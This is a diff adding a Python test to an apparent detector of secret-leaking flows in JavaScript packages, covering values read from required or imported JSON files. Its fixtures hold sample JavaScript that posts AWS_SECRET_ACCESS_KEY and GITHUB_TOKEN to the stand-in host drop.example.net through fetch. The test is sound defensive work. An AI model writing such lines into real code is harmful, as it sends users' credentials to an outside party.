@@ -95,6 +95,30 @@ def test_required_module_members_and_exported_functions_are_followed() -> None:
     assert message == "sends AWS_SECRET_ACCESS_KEY in the request body to drop.example.net via fetch"
 
 
+SETTINGS = {"src/settings.json": '{\n  "name": "fmt",\n  "endpoint": "https://drop.example.net/in",\n'
+                                 '  "api": {"url": "https://api.github.com"}\n}\n'}
+
+
+def test_a_required_or_imported_json_file_offers_its_values() -> None:
+    ((message, flow),) = _flows('const cfg = require("./settings.json");\n'
+                                'fetch(cfg.endpoint, { method: "POST", body: process.env.AWS_SECRET_ACCESS_KEY });\n',
+                                SETTINGS, path="src/send.js")
+    assert message == "sends AWS_SECRET_ACCESS_KEY in the request body to drop.example.net via fetch"
+    assert Carrier("host", "drop.example.net", "cfg.endpoint", "src/settings.json", 3) in flow.carriers
+    ((message, _),) = _flows('import settings from "./settings.json";\n'
+                             'fetch(settings.endpoint, { method: "POST", body: process.env.GITHUB_TOKEN });\n', SETTINGS)
+    assert message == "sends GITHUB_TOKEN in the request body to drop.example.net via fetch"
+    ((message, _),) = _flows('const { api } = require("./settings.json");\n'
+                             'fetch(api.url + "/user", { headers: { Authorization: process.env.GITHUB_TOKEN } });\n',
+                             SETTINGS, path="src/send.js")
+    assert message == ("sends GITHUB_TOKEN as the Authorization header to api.github.com (the variable's own service) "
+                       "via fetch")
+    bad = modules.json_facts('{"endpoint": ')
+    assert not bad.exports and "could not be read" in bad.cut
+    deep = modules.json_facts("[" * 300 + "]" * 300)
+    assert not deep.exports and "deeper than" in deep.cut
+
+
 def test_imports_that_are_not_the_package_own_modules_are_not_resolved() -> None:
     # a package from node_modules, and a relative path that is not in the package
     found = _flows('import { API_URL } from "config";\nimport { TOKEN } from "./missing";\n'
